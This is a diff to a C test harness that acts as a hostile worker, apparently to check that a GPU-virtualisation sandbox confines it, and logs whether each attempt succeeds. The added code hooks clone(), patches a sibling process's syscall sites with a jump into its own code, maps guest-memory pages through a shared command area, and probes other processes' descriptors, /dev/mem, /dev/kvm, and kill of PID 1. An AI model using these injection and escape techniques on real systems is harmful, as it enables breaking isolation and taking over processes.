@@ -3,8 +3,11 @@
 // what such a worker would try. It writes a line per attempt to the worker's log.
 
 #define _GNU_SOURCE
+#include <dlfcn.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/futex.h>
+#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdarg.h>
@@ -75,6 +78,10 @@ static long number_of(const char *field, int base) {
 static int open_file(const char *path, int flags) {
     int fd = CALL(SYS_openat, (long)AT_FDCWD, (long)path, (long)flags, 0600L);
     return fd;
+}
+
+static int write_all(int fd, const char *text, long bytes) {
+    return CALL(SYS_write, (long)fd, (long)text, bytes) == bytes;
 }
 
 static void file(const char *what, const char *path, int flags) {
@@ -150,9 +157,13 @@ static void local_socket(const char *what, const char *path, int abstract, int t
     result(what, fd >= 0 && CALL(SYS_connect, (long)fd, (long)&address, length) == 0);
 }
 
-static void attack(void) {
+static void survive_filters(void) {
     struct sigaction action = {.sa_sigaction = survive, .sa_flags = SA_SIGINFO};
     sigaction(SIGSYS, &action, NULL);
+}
+
+static void attack(void) {
+    survive_filters();
     const char *victim = getenv("ATTACK_VICTIM"), *folder = getenv("ATTACK_FOLDER");
     const char *secret = getenv("ATTACK_SECRET"), *library = getenv("ATTACK_LIBRARY");
     long own = number_of("\nPid:", 10), parent = number_of("\nPPid:", 10);
@@ -190,6 +201,14 @@ static void attack(void) {
     // NVIDIA's library names its threads so, and does not start if it cannot.
     if (open_file("/proc/thread-self/comm", O_WRONLY | O_TRUNC) < 0)
         say("D no thread can be named\n");
+    // Workers are the first that the kernel ends when memory is short.
+    const char *scores[] = {"/proc/self/oom_score_adj", "/proc/thread-self/oom_score_adj"};
+    int spared = 0;
+    for (int i = 0; i < 2; i++) {
+        int score = open_file(scores[i], O_WRONLY);
+        spared += score >= 0 && write_all(score, "0", 1);
+    }
+    result("another victim for the kernel", spared > 0);
     file("the machine's memory", "/dev/mem", O_RDWR);
     file("virtual machines", "/dev/kvm", O_RDWR);
     // Every device of the host has this one; its rights are everybody's.
@@ -230,36 +249,101 @@ static void attack(void) {
     say("D attack over: %d of %d attempts worked\n", worked, tried);
 }
 
-// A session's guest memory. What is tried in the thread that has its descriptors runs there as a signal's handler.
+// A session's guest memory. The process that has its descriptors shares this one's memory: the attack gives it orders
+// (`Desk` in `vhost-cuda/src/worker/memory/mapper/process.rs`), and changes its code.
 
 #define PAGE 4096L
-static volatile int in_mapper, mapped_pages, mapped_more, other_uses;
-static void *volatile mapped_page = MAP_FAILED;
+#define MAX_FILE 24
+enum { IDLE = 2, ORDERED = 3 };
+static struct {
+    volatile unsigned state;
+    int error;
+    unsigned count;
+    struct {
+        unsigned long arguments[6];
+        long result;
+    } slots[256];
+} *desk;
+static int (*mapper)(void *);
+static long mapper_pid = -1;
+static volatile int in_mapper, other_uses;
 
-static void as_mapper(int signal, siginfo_t *info, void *context) {
-    (void)signal, (void)info, (void)context;
-    // Every other thread may ask for flags of descriptors.
-    if (CALL(SYS_fcntl, 0L, (long)F_GETFD) >= 0 || errno != EPERM || in_mapper)
-        return;
+// The worker starts that process with the C library's function.
+int clone(int (*run)(void *), void *stack, int flags, void *argument, ...) {
+    static int (*real)(int (*)(void *), void *, int, void *, ...);
+    va_list list;
+    va_start(list, argument);
+    void *parent = va_arg(list, void *), *storage = va_arg(list, void *), *word = va_arg(list, void *);
+    va_end(list);
+    if (!real)
+        *(void **)&real = dlsym(RTLD_NEXT, "clone");
+    int pid = real(run, stack, flags, argument, parent, storage, word);
+    if (pid > 0 && (flags & CLONE_VM) && !(flags & CLONE_THREAD))
+        desk = word, mapper = run, mapper_pid = pid;
+    return pid;
+}
+
+static long raw(long number, long first, long second, long third, long fourth) {
+    register long r10 __asm__("r10") = fourth;
+    long result;
+    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third), "r"(r10)
+                     : "rcx", "r11", "memory");
+    return result;
+}
+
+// What the process tries with the attack's code. It shares the thread-local storage of a thread.
+static void as_mapper(void) {
+    static char message[256];
+    long word = 0;
+    // Another thread that has met the changed code.
+    while (raw(SYS_gettid, 0, 0, 0, 0) != -EPERM)
+        raw(SYS_futex, (long)&in_mapper, FUTEX_WAIT, in_mapper, 0);
     in_mapper = 1;
-    long pages = atol(getenv("ATTACK_PAGES")), word;
-    for (long fd = 0; fd < 16; fd++) {
-        for (long page = 0; page < pages; page++) {
-            void *mapped = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, page * PAGE);
-            mapped_pages += mapped != MAP_FAILED;
-            mapped_page = mapped != MAP_FAILED ? mapped : mapped_page;
-        }
-        mapped_more += mmap(NULL, pages * PAGE, PROT_READ, MAP_SHARED, fd, 0) != MAP_FAILED;
-        mapped_more += mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0) != MAP_FAILED;
-        other_uses += CALL(SYS_pread64, fd, (long)&word, 8L) >= 0;
-        other_uses += CALL(SYS_pwrite64, fd, (long)&word, 8L) >= 0;
-        other_uses += CALL(SYS_dup, fd) >= 0;
-        other_uses += CALL(SYS_fallocate, fd, 3L, 0L, PAGE) >= 0;
-        other_uses += CALL(SYS_ftruncate, fd, 0L) >= 0;
-        other_uses += CALL(SYS_sendmsg, fd) >= 0 || errno != EPERM;
+    for (long fd = 0; fd < MAX_FILE; fd++) {
+        other_uses += raw(SYS_pread64, fd, (long)&word, 8, 0) >= 0;
+        other_uses += raw(SYS_pwrite64, fd, (long)&word, 8, 0) >= 0;
+        other_uses += raw(SYS_dup, fd, 0, 0, 0) >= 0;
+        other_uses += raw(SYS_fallocate, fd, 3, 0, PAGE) >= 0;
+        other_uses += raw(SYS_ftruncate, fd, 0, 0, 0) >= 0;
+        other_uses += raw(SYS_sendmsg, fd, (long)message, 0, 0) != -EPERM;
+        other_uses += raw(SYS_recvmsg, fd, (long)message, 0, 0) != -EPERM;
+        other_uses += raw(SYS_close, fd, 0, 0, 0) != -EPERM;
     }
-    other_uses += CALL(SYS_clone, (long)(CLONE_VM | CLONE_FILES | CLONE_THREAD | CLONE_SIGHAND)) >= 0;
+    other_uses += raw(SYS_close_range, 0, MAX_FILE, 0, 0) != -EPERM;
+    other_uses += raw(SYS_clone, CLONE_VM | CLONE_FILES | CLONE_THREAD | CLONE_SIGHAND, 0, 0, 0) != -EPERM;
+    other_uses += raw(SYS_prctl, PR_SET_DUMPABLE, 1, 0, 0) != -EPERM;
+    other_uses += raw(SYS_kill, 1, 9, 0, 0) != -EPERM;
     in_mapper = 2;
+    for (;;)
+        raw(SYS_futex, (long)&in_mapper, FUTEX_WAIT, 2, 0);
+}
+
+// Makes the process go on with the attack's code after its next system call.
+static void take_mapper(void) {
+    unsigned char *code = (unsigned char *)mapper, *page = (unsigned char *)((long)code & -PAGE);
+    if (mprotect(page, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC))
+        return;
+    unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};
+    void (*target)(void) = as_mapper;
+    memcpy(jump + 2, &target, 8);
+    for (long at = 0; at < PAGE - (long)sizeof jump; at++)
+        if (code[at] == 0x0f && code[at + 1] == 0x05)
+            memcpy(code + at + 2, jump, sizeof jump), at += sizeof jump;
+    CALL(SYS_futex, (long)desk, (long)FUTEX_WAKE, 1L);
+    for (int i = 0; i < 500 && in_mapper != 2; i++)
+        usleep(10000);
+}
+
+static void *order(int protection, int flags, long fd, long page, long bytes) {
+    unsigned long arguments[] = {0, bytes, protection, flags, fd, page * PAGE};
+    memcpy(desk->slots[0].arguments, arguments, sizeof arguments);
+    desk->count = 1;
+    desk->state = ORDERED;
+    CALL(SYS_futex, (long)desk, (long)FUTEX_WAKE, 1L);
+    while (desk->state == ORDERED)
+        CALL(SYS_futex, (long)desk, (long)FUTEX_WAIT, (long)ORDERED);
+    long result = desk->slots[0].result;
+    return result < 0 && result > -4096 ? MAP_FAILED : (void *)result;
 }
 
 // Bytes of mappings that bear the name of a front-end's memory.
@@ -280,7 +364,37 @@ static long mapped_bytes(void) {
     return bytes;
 }
 
+// Looks whether a socket of the worker gets a file of guest memory when that changes, and at last takes the process for
+// mappings, which maps nothing afterwards.
+static void *watch_sockets(void *pages) {
+    int received = 0;
+    say("D attack watches sockets\n");
+    for (int round = 0; round < 400; round++, usleep(10000))
+        for (int fd = 0; fd < MAX_FD; fd++) {
+            char byte, control[256];
+            struct iovec part = {&byte, 1};
+            struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
+            if (!is_socket(fd) || recvmsg(fd, &message, MSG_PEEK | MSG_DONTWAIT) <= 0)
+                continue;
+            struct cmsghdr *head = CMSG_FIRSTHDR(&message);
+            struct stat about;
+            int file;
+            if (!head || head->cmsg_type != SCM_RIGHTS)
+                continue;
+            memcpy(&file, CMSG_DATA(head), sizeof file);
+            received += fstat(file, &about) == 0 && about.st_size == (long)pages * PAGE;
+            close(file);
+        }
+    result("guest memory by a socket", received > 0);
+    take_mapper();
+    say("D the process for mappings %s the attack's code\n", in_mapper == 2 ? "runs" : "does not run");
+    result("another use of the descriptors", other_uses > 0);
+    say("D attack over: %d of %d attempts worked\n", worked, tried);
+    return NULL;
+}
+
 static void attack_pages(void) {
+    survive_filters();
     long pages = atol(getenv("ATTACK_PAGES")), named = atol(getenv("ATTACK_NAMED"));
     long bytes = mapped_bytes();
     say("D %ld bytes of guest memory are mapped\n", bytes);
@@ -291,34 +405,53 @@ static void attack_pages(void) {
         found += fstat(fd, &about) == 0 && about.st_size == pages * PAGE;
     }
     result("a descriptor of guest memory", found > 0);
-    long own = getpid();
-    for (long thread = own; thread < own + 64; thread++)
-        for (int fd = 0; fd < 16; fd++) {
-            char path[64];
-            struct stat about;
-            snprintf(path, sizeof path, "/proc/self/task/%ld/fd/%d", thread, fd);
-            int file = open_file(path, O_RDWR);
-            file = file >= 0 ? file : open_file(path, O_RDONLY);
-            opened += file >= 0 && fstat(file, &about) == 0 && about.st_size == pages * PAGE;
-            if (file >= 0)
-                close(file);
+    long own = getpid(), from = own > 64 ? own - 64 : 1;
+    for (long process = from; process < own + 64; process++)
+        for (int fd = 0; fd < MAX_FILE; fd++)
+            for (int kind = 0; kind < 3; kind++) {
+                char path[64];
+                struct stat about;
+                const char *paths[] = {"/proc/%ld/fd/%d", "/proc/%ld/task/%ld/fd/%d", "/proc/self/task/%ld/fd/%d"};
+                if (kind == 1)
+                    snprintf(path, sizeof path, paths[kind], process, process, fd);
+                else
+                    snprintf(path, sizeof path, paths[kind], process, fd);
+                int file = open_file(path, O_RDWR);
+                file = file >= 0 ? file : open_file(path, O_RDONLY);
+                opened += file >= 0 && fstat(file, &about) == 0 && about.st_size == pages * PAGE;
+                if (file >= 0)
+                    close(file);
+            }
+    result("guest memory by another process's descriptor", opened > 0);
+    result("the memory of another process's descriptors", mapper_pid < 0 || takes_descriptors(mapper_pid));
+
+    long read = atol(getenv("ATTACK_READ")), mapped = 0, written = 0, changed = 0, more = 0;
+    void *page = MAP_FAILED;
+    for (long fd = 0; fd < MAX_FILE && desk; fd++) {
+        for (long at = 0; at < pages; at++) {
+            void *writable = order(PROT_READ | PROT_WRITE, MAP_SHARED, fd, at, PAGE);
+            written += writable != MAP_FAILED;
+            page = writable != MAP_FAILED ? writable : page;
+            void *readable = order(PROT_READ, MAP_SHARED, fd, at, PAGE);
+            mapped += readable != MAP_FAILED;
+            if (readable == MAP_FAILED || writable != MAP_FAILED)
+                continue;
+            changed += mprotect(readable, PAGE, PROT_READ | PROT_WRITE) == 0;
+            changed += madvise(readable, PAGE, MADV_REMOVE) == 0;
         }
-    result("guest memory by another thread's descriptor", opened > 0);
-    struct sigaction action = {.sa_sigaction = as_mapper, .sa_flags = SA_SIGINFO | SA_RESTART};
-    sigaction(SIGUSR1, &action, NULL);
-    for (long thread = own; thread < own + 64 && !in_mapper; thread++)
-        if (thread != gettid() && CALL(SYS_tgkill, own, thread, (long)SIGUSR1) == 0)
-            usleep(20000);
-    for (int i = 0; i < 500 && in_mapper == 1; i++)
-        usleep(10000);
-    say("D the mapping thread could map %d pages of %ld\n", mapped_pages, named);
-    result("the mapping thread was not found", in_mapper != 2);
-    result("mapping pages that were not named", mapped_pages > named || mapped_more);
-    result("nothing can be mapped at all", mapped_pages == 0);
-    void *grown = mremap(mapped_page, PAGE, 4 * PAGE, MREMAP_MAYMOVE);
-    result("a mapping that grows", mapped_page == MAP_FAILED || grown != MAP_FAILED);
-    result("another use of the descriptors", other_uses > 0);
-    say("D attack over: %d of %d attempts worked\n", worked, tried);
+        more += order(PROT_READ, MAP_SHARED, fd, 0, pages * PAGE) != MAP_FAILED;
+        more += order(PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0, PAGE) != MAP_FAILED;
+    }
+    say("D the process for mappings could map %ld pages, %ld to write, of %ld and %ld\n", mapped, written, named, read);
+    // Those to be written have two descriptors.
+    result("mapping pages that were not named", mapped > 2 * named - read || more);
+    result("writing pages that may only be read", written > named - read || changed);
+    result("nothing can be mapped at all", mapped < named || written < named - read);
+    void *grown = mremap(page, PAGE, 4 * PAGE, MREMAP_MAYMOVE);
+    result("a mapping that grows", page == MAP_FAILED || grown != MAP_FAILED);
+    pthread_t watcher;
+    if (pthread_create(&watcher, NULL, watch_sockets, (void *)pages))
+        say("D no thread\n");
 }
 
 __attribute__((constructor)) static void start(void) {
